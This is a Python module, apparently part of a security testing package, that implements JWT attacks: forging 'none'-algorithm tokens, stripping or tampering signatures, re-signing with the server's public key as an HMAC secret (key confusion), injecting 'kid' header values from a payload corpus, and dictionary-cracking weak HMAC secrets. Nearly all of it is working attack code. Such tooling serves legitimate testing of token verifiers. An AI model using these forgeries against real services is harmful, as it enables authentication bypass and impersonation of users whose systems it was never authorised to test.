"""JWT tooling for attacks and tests: decode without verifying, forge, tamper, re-sign, crack weak secrets.

    forged = forge({"sub": "42"}, alg="none")
    confused = resign_hs_with_public_key(genuine, public_pem)
    secret = crack_hs(genuine, load_payloads().get("jwt_secrets"))

PyJWT does the signing wherever it agrees to. It refuses some tokens on purpose (HMAC keyed with a
PEM public key, an empty HMAC key): those are the attacks, so they are built here with hmac/base64.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import re
import time
import warnings
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any

import jwt as pyjwt
from cryptography.hazmat.primitives import serialization

# Candidates tried by crack_hs at most (the dictionary is bounded too; this guards custom lists).
MAX_CRACK_CANDIDATES = 5000
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
_HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_JWT_SHAPE = re.compile(r"^[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]*$")
# JWT-shaped substrings of larger text (headers, bodies, URLs): a JSON header always starts `eyJ`.
JWT_IN_TEXT = re.compile(r"eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]*")


class MalformedJWT(ValueError):
    """The value is not a compact JWS (three base64url parts, JSON header and claims)."""


@dataclass(frozen=True)
class DecodedJWT:
    """A token's parts, decoded but not verified."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes
    signature: bytes

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    try:
        return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
    except (binascii.Error, ValueError) as exc:
        raise MalformedJWT(f"not base64url: {exc}") from None


def _json_part(text: str, what: str) -> dict[str, Any]:
    try:
        value = json.loads(b64url_decode(text))
    except (UnicodeDecodeError, ValueError):
        raise MalformedJWT(f"the {what} is not JSON") from None
    if not isinstance(value, dict):
        raise MalformedJWT(f"the {what} is not a JSON object")
    return value


def decode_unverified(token: str) -> DecodedJWT:
    """Header, claims and signature of `token`, without checking anything (MalformedJWT if not a JWT)."""
    parts = token.strip().split(".")
    if len(parts) != 3:
        raise MalformedJWT("a compact JWT has three dot-separated parts")
    header = _json_part(parts[0], "header")
    claims = _json_part(parts[1], "claims")
    return DecodedJWT(header, claims, f"{parts[0]}.{parts[1]}".encode("ascii"), b64url_decode(parts[2]))


def looks_like_jwt(value: object) -> bool:
    """Whether `value` is a compact JWT whose header and claims decode to JSON objects with an `alg`."""
    if not isinstance(value, str) or len(value) > 16_384 or not _JWT_SHAPE.match(value.strip()):
        return False
    try:
        return "alg" in decode_unverified(value).header
    except MalformedJWT:
        return False


def _encode_json(obj: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())


def hmac_sign(signing_input: bytes, key: bytes, alg: str = "HS256") -> bytes:
    """The HMAC signature of a JWS signing input (any key, empty and PEM-looking ones included)."""
    digest = _HMAC_HASHES.get(alg.upper())
    if digest is None:
        raise ValueError(f"not an HMAC algorithm: {alg}")
    return hmac.new(key, signing_input, digest).digest()


def _as_bytes(key: str | bytes) -> bytes:
    return key.encode() if isinstance(key, str) else key


def forge(claims: Mapping[str, Any], header: Mapping[str, Any] | None = None, alg: str = "none",
          key: Any = None) -> str:
    """A token with `claims`, signed with `alg` and `key` (`none` variants and odd HMAC keys included).

    `header` entries are added to (and may override) `{"alg": alg, "typ": "JWT"}`. RSA/EC keys may be
    cryptography objects or PEM; HMAC keys may be empty or a PEM (the key-confusion attack).
    """
    head = {"alg": alg, "typ": "JWT", **(header or {})}
    if alg.lower() == "none":
        return f"{_encode_json(head)}.{_encode_json(claims)}."
    if alg.upper() in _HMAC_HASHES:
        signing_input = f"{_encode_json(head)}.{_encode_json(claims)}".encode("ascii")
        signature = hmac_sign(signing_input, _as_bytes(key if key is not None else b""), alg)
        return f"{signing_input.decode('ascii')}.{b64url_encode(signature)}"
    extra = {k: v for k, v in head.items() if k != "alg"}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # short keys are the point of an attack tool
        return pyjwt.encode(dict(claims), key, algorithm=alg, headers=extra)


def strip_signature(token: str) -> str:
    """`header.claims.` — the same token with its signature removed (header untouched)."""
    head, claims, _ = token.strip().split(".")
    return f"{head}.{claims}."


def tamper_signature(token: str) -> str:
    """The same header and claims with a wrong signature of the same length (a verification control)."""
    decoded = decode_unverified(token)
    wrong = bytes(b ^ 0x5A for b in decoded.signature) or b"\x00" * 32
    return f"{decoded.signing_input.decode('ascii')}.{b64url_encode(wrong)}"


def with_claims(token: str, claims: Mapping[str, Any] | None = None, *, key: Any = None,
                alg: str | None = None, header: Mapping[str, Any] | None = None) -> str:
    """A copy of `token` with claims updated (None values remove a claim).

    With `key` the copy is re-signed (with `alg`, default the token's); without, it keeps the
    original signature, which no longer matches: a tampered token.
    """
    decoded = decode_unverified(token)
    new_claims = {k: v for k, v in {**decoded.claims, **(claims or {})}.items() if v is not None}
    new_header = {**decoded.header, **(header or {})}
    if key is None and alg is None:
        body = f"{_encode_json(new_header)}.{_encode_json(new_claims)}"
        return f"{body}.{b64url_encode(decoded.signature)}"
    use_alg = alg or decoded.alg
    new_header["alg"] = use_alg
    return forge(new_claims, new_header, alg=use_alg, key=key)


def resign_hs_with_public_key(token: str, pem: str | bytes, alg: str = "HS256") -> str:
    """Key confusion: the token's claims signed with HMAC keyed by the server's *public* key PEM."""
    decoded = decode_unverified(token)
    return forge(decoded.claims, {**decoded.header, "alg": alg}, alg=alg, key=_as_bytes(pem))


def expired_copy(token: str, key: Any, *, now: int | None = None, alg: str | None = None) -> str:
    """A re-signed copy whose `exp` lies an hour in the past (and `iat` two hours)."""
    at = int(time.time()) if now is None else now
    return with_claims(token, {"exp": at - 3600, "iat": at - 7200}, key=key, alg=alg)


def not_yet_valid_copy(token: str, key: Any, *, now: int | None = None, alg: str | None = None) -> str:
    """A re-signed copy valid only from an hour from now (`nbf`, `iat` in the future)."""
    at = int(time.time()) if now is None else now
    return with_claims(token, {"nbf": at + 3600, "iat": at + 3600, "exp": at + 7200}, key=key, alg=alg)


@dataclass(frozen=True)
class KidVariant:
    """A `kid` header value that makes a naive key lookup return a key the attacker knows."""

    name: str
    kid: str
    key: str


def kid_variants(token: str, variants: Iterable[KidVariant | Mapping[str, str]] = ()) -> list[tuple[KidVariant, str]]:
    """(variant, forged token) pairs: the token's claims, HS256-signed with each variant's key and kid.

    Without `variants` the bounded set from the `jwt_kid_injection` payload corpus is used.
    """
    if not variants:
        from bastion.payloads import load_payloads

        variants = load_payloads().get("jwt_kid_injection")
    decoded = decode_unverified(token)
    out: list[tuple[KidVariant, str]] = []
    for raw in variants:
        v = raw if isinstance(raw, KidVariant) else KidVariant(str(raw["name"]), str(raw["kid"]), str(raw["key"]))
        header = {**decoded.header, "alg": "HS256", "kid": v.kid}
        out.append((v, forge(decoded.claims, header, alg="HS256", key=v.key.encode())))
    return out


def crack_hs(token: str, candidates: Iterable[str], limit: int = MAX_CRACK_CANDIDATES) -> str | None:
    """The HMAC secret of an HS256/384/512 token if it is among `candidates` (at most `limit` tried)."""
    decoded = decode_unverified(token)
    if decoded.alg.upper() not in _HMAC_HASHES:
        return None
    for index, candidate in enumerate(candidates):
        if index >= limit:
            break
        if hmac.compare_digest(hmac_sign(decoded.signing_input, str(candidate).encode(), decoded.alg),
                               decoded.signature):
            return str(candidate)
    return None


def public_pems_from_jwks(doc: object) -> list[tuple[str | None, bytes]]:
    """(kid, SubjectPublicKeyInfo PEM) of every RSA/EC public key in a JWKS document; bad keys skipped."""
    keys = doc.get("keys") if isinstance(doc, dict) else None
    out: list[tuple[str | None, bytes]] = []
    for jwk in keys if isinstance(keys, list) else []:
        if not isinstance(jwk, dict) or jwk.get("kty") not in ("RSA", "EC"):
            continue
        try:
            key = pyjwt.PyJWK(jwk).key
            pem = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        except (pyjwt.PyJWTError, ValueError, TypeError, AttributeError):
            continue
        out.append((jwk.get("kid") if isinstance(jwk.get("kid"), str) else None, pem))
    return out


def pem_spellings(pem: bytes) -> list[bytes]:
    """The byte strings a server may use as "the public key": SPKI and PKCS#1 PEM, with/without final newline."""
    spellings = [pem, pem.rstrip(b"\n")]
    try:
        key = serialization.load_pem_public_key(pem)
        pkcs1 = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        spellings += [pkcs1, pkcs1.rstrip(b"\n")]
    except (ValueError, TypeError):
        pass  # EC keys have no PKCS#1 form
    return list(dict.fromkeys(spellings))
